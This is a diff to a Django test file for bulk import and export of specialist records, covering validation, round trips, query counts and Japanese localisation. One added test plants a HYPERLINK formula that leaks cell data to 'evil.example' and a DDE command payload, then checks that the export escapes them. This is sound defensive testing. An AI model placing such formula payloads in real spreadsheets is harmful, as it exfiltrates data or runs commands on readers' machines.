@@ -1,12 +1,16 @@
 """Bulk import and export of specialists: all or nothing, naming the bad row and field."""
 
+import csv
+import io
+
 import pytest
-import tablib
 from django.db import connection
 from django.test.utils import CaptureQueriesContext
+from django.utils import translation
 
+from clair_portal.tabular.writing import xlsx_bytes
 from cooperation.models import Specialist, SpecialistLanguage
-from cooperation.resources import SpecialistResource, import_specialists
+from cooperation.resources import SpecialistImport
 from cooperation.tests import factories
 
 pytestmark = pytest.mark.django_db
@@ -17,11 +21,23 @@ HEADERS = [
 ]  # fmt: skip
 
 
-def dataset(*rows):
-    data = tablib.Dataset(headers=HEADERS)
-    for row in rows:
-        data.append(row)
-    return data
+def dataset(*rows, headers=HEADERS) -> bytes:
+    buffer = io.StringIO()
+    csv.writer(buffer).writerows([headers, *rows])
+    return buffer.getvalue().encode()
+
+
+def import_specialists(data: bytes, *, dry_run=False, user=None):
+    return SpecialistImport(user=user).run(
+        io.BytesIO(data), name="specialists.csv", dry_run=dry_run
+    )
+
+
+def errors_by_row(result) -> dict:
+    found: dict = {}
+    for error in result.errors:
+        found.setdefault(error.row, {})[error.column] = str(error.message)
+    return found
 
 
 def row(i, **overrides):
@@ -43,7 +59,7 @@ def row(i, **overrides):
 
 def test_an_import_creates_specialists_with_fields_and_languages(reference_data):
     result = import_specialists(dataset(row(1), row(2)))
-    assert not result.has_errors() and not result.has_validation_errors()
+    assert result.ok, (result.refused, result.errors)
     person = Specialist.objects.get(email="imported1@example.org")
     assert person.home_government_id == "422011"
     assert sorted(f.code for f in person.fields.all()) == ["sewerage", "water-supply"]
@@ -60,10 +76,11 @@ def test_importing_the_same_file_again_changes_nothing(reference_data):
 
     before = histories()
     again = import_specialists(dataset(row(1), row(2)))
-    assert again.totals["skip"] == 2 and again.totals["update"] == 0
+    assert again.unchanged == 2 and again.changed == 0
     assert histories() == before
     changed = import_specialists(dataset(row(1), row(2, languages="en:fluent")))
-    assert changed.totals["update"] == 1 and changed.totals["skip"] == 1
+    assert changed.changed == 1 and changed.unchanged == 1
+    assert [c.fields for c in changed.changes] == [("languages",)]
     person = Specialist.objects.get(email="imported2@example.org")
     assert [(x.language, x.level) for x in person.languages.all()] == [("en", 3)]
 
@@ -74,23 +91,23 @@ def test_one_bad_row_imports_nothing_and_names_the_row_and_field(reference_data)
     )
     assert result.has_validation_errors()
     assert Specialist.objects.count() == 0
-    bad = {invalid.number: invalid.error_dict for invalid in result.invalid_rows}
-    assert set(bad) == {2, 3}
-    assert "home_government" in bad[2] and "999999" in str(bad[2]["home_government"])
-    assert "languages" in bad[3] and "xx" in str(bad[3]["languages"])
+    bad = errors_by_row(result)  # rows as a spreadsheet numbers them: the header is row 1
+    assert set(bad) == {3, 4}
+    assert "home_government" in bad[3] and "999999" in bad[3]["home_government"]
+    assert "languages" in bad[4] and "xx" in bad[4]["languages"]
 
 
 def test_unknown_field_codes_are_named(reference_data):
     result = import_specialists(dataset(row(1, fields="water-supply;basket-weaving")))
     assert result.has_validation_errors()
-    assert "basket-weaving" in str(result.invalid_rows[0].error_dict["fields"])
+    assert "basket-weaving" in errors_by_row(result)[2]["fields"]
     assert not Specialist.objects.exists()
 
 
 def test_an_import_updates_by_email_and_deactivates_instead_of_deleting(reference_data):
     existing = factories.specialist("imported1@example.org", languages=(("de", 4),))
     result = import_specialists(dataset(row(1, is_active=0, languages="en:native")))
-    assert not result.has_validation_errors()
+    assert result.ok
     existing.refresh_from_db()
     assert existing.is_active is False and existing.full_name == "Imported 1"
     assert [(x.language, x.level) for x in existing.languages.all()] == [("en", 4)]
@@ -100,13 +117,15 @@ def test_an_import_updates_by_email_and_deactivates_instead_of_deleting(referenc
 def test_export_round_trips_through_import(reference_data):
     factories.specialist("round@example.org", fields=("tourism", "agriculture"),
                          languages=(("es", 2),))  # fmt: skip
-    exported = SpecialistResource().export()
-    assert exported.headers == HEADERS
-    exported_row = dict(zip(exported.headers, exported[0], strict=True))
-    assert exported_row["languages"] == "es:working"
+    header, *rows = SpecialistImport.export_rows(Specialist.objects.all())
+    # Headers and values as people read them, which import back.
+    assert header[:3] == ["e-mail address", "full name", "status"]
+    exported_row = dict(zip(header, rows[0], strict=True))
+    assert exported_row["languages"] == "Spanish: working"
+    assert sorted(exported_row["fields"].split("; ")) == ["Agriculture", "Tourism"]
     Specialist.objects.all().update(full_name="Changed")
-    result = import_specialists(exported)
-    assert not result.has_validation_errors()
+    result = SpecialistImport().run(io.BytesIO(xlsx_bytes([header, *rows])), name="s.xlsx")
+    assert result.ok, result.errors
     person = Specialist.objects.get()
     assert person.full_name == "Round"
     assert sorted(f.code for f in person.fields.all()) == ["agriculture", "tourism"]
@@ -116,12 +135,12 @@ def test_the_admin_import_previews_and_refuses_a_bad_file(client, cast):
     from django.core.files.uploadedfile import SimpleUploadedFile
     from django.urls import reverse
 
-    csv = dataset(row(1), row(2, years_of_experience="many")).export("csv").encode()
+    data = dataset(row(1), row(2, years_of_experience="many"))
     client.force_login(cast.hq)
     response = client.post(
         reverse("admin:cooperation_specialist_import"),
         {
-            "import_file": SimpleUploadedFile("specialists.csv", csv),
+            "import_file": SimpleUploadedFile("specialists.csv", data),
             "format": "0",
             "resource": "0",
         },  # fmt: skip
@@ -136,9 +155,7 @@ def test_the_admin_import_previews_and_refuses_a_bad_file(client, cast):
 def test_the_same_address_twice_in_one_file_is_refused(reference_data):
     result = import_specialists(dataset(row(1), row(2), row(1, full_name="Again")))
     assert not Specialist.objects.exists()
-    (invalid,) = result.invalid_rows
-    assert invalid.number == 3
-    assert "already in row 1" in str(invalid.error_dict["email"])
+    assert errors_by_row(result) == {4: {"email": "The same record is already in row 2."}}
 
 
 def test_an_import_records_history_of_specialists_fields_and_languages(reference_data, cast):
@@ -160,7 +177,7 @@ def test_an_import_records_history_of_specialists_fields_and_languages(reference
 
 def count_import_queries(n, start):
     first = dataset(*(row(i) for i in range(start, start + n)))
-    assert not import_specialists(first).has_validation_errors()
+    assert import_specialists(first).ok
     # The second file changes every row: other fields, other languages, one language gone.
     changed = dataset(
         *(
@@ -171,8 +188,8 @@ def count_import_queries(n, start):
     )
     with CaptureQueriesContext(connection) as queries:
         result = import_specialists(changed)
-    assert not result.has_validation_errors() and not result.has_errors()
-    assert (result.totals["update"], result.totals["new"]) == (n, n)
+    assert result.ok
+    assert (result.changed, result.added) == (n, n)
     return len(queries)
 
 
@@ -192,12 +209,10 @@ def test_import_queries_do_not_grow_with_rows(reference_data):
 
 
 def test_the_admin_import_previews_then_confirms_and_records_who(client, cast):
-    import io
-
     from django.urls import reverse
 
     client.force_login(cast.hq)
-    upload = io.BytesIO(dataset(row(1), row(2)).export("csv").encode())
+    upload = io.BytesIO(dataset(row(1), row(2)))
     upload.name = "specialists.csv"
     response = client.post(
         reverse("admin:cooperation_specialist_import"),
@@ -211,3 +226,52 @@ def test_the_admin_import_previews_then_confirms_and_records_who(client, cast):
     assert response.status_code == 302
     assert Specialist.objects.count() == 2
     assert Specialist.history.filter(history_user=cast.hq).count() == 2
+
+
+def test_the_admin_export_keeps_a_specialists_formula_out_of_spreadsheets(client, cast):
+    """A specialist's own name and position went out as a live HYPERLINK formula."""
+    from django.urls import reverse
+    from openpyxl import load_workbook
+
+    evil = '=HYPERLINK("http://evil.example/?d="&A2,"Open")'
+    factories.specialist("evil@example.org", full_name=evil, position="+cmd|' /C calc'!A0")
+    client.force_login(cast.hq)
+    url = reverse("admin:cooperation_specialist_export")
+    response = client.post(url, {"format": "1", "resource": "0"})
+    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
+    name, position = sheet["B2"], sheet["E2"]
+    assert name.data_type == "s" and name.value == "'" + evil
+    assert position.data_type == "s" and position.value.startswith("'+cmd")
+    response = client.post(url, {"format": "0", "resource": "0"})
+    text = b"".join(response.streaming_content).decode("utf-8-sig")
+    cells = list(csv.reader(io.StringIO(text)))[1]
+    assert cells[1] == "'" + evil and cells[4].startswith("'+cmd")
+
+
+def test_the_admin_export_is_in_japanese_for_a_japanese_reader(client, cast):
+    from django.urls import reverse
+
+    factories.specialist("ja@example.org", languages=(("fr", 3),))
+    client.force_login(cast.hq)
+    with translation.override("ja"):
+        response = client.post(
+            reverse("admin:cooperation_specialist_export"), {"format": "0", "resource": "0"},
+            HTTP_ACCEPT_LANGUAGE="ja",
+        )  # fmt: skip
+    header, first = list(
+        csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig")))
+    )
+    # "status" is a JET participant's too, and jet's catalogue is read first.
+    assert header[:3] == ["メールアドレス", "氏名", "状況"]
+    assert dict(zip(header, first, strict=True))["使用言語"] == "フランス語: 流暢"
+    data = "\ufeff" + ",".join(header) + "\n" + ",".join(f'"{c}"' for c in first) + "\n"
+    assert import_specialists(data.encode()).unchanged == 1
+
+
+def test_languages_and_fields_read_as_names_in_either_language_or_codes(reference_data):
+    result = import_specialists(
+        dataset(row(1, languages="フランス語：流暢; English: working", fields="water-supply"))
+    )
+    assert result.ok, result.errors
+    person = Specialist.objects.get()
+    assert sorted(person.languages.values_list("language", "level")) == [("en", 2), ("fr", 3)]
